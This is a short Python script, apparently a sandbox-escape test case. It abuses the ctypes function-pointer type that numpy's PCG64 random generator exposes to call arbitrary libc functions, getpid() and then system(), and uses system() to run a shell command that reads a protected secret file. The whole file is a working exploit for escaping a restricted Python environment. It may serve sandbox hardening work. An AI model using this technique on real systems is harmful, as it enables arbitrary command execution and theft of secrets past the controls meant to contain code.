# attack: random generators hand out C function pointers; their type makes pointers to any function of any library: system(), by dlsym
# family: numpy
import numpy
interface = numpy.random.PCG64().ctypes
class Everywhere:
    _handle = 0
pointer = type(interface.next_uint64)
print("REACHED getpid()", pointer(("getpid", Everywhere()))(None))
if pointer(("system", Everywhere()))(b"cat '$SECRET_FILE'") == 0:
    print("ESCAPED: cat read $SECRET_FILE")
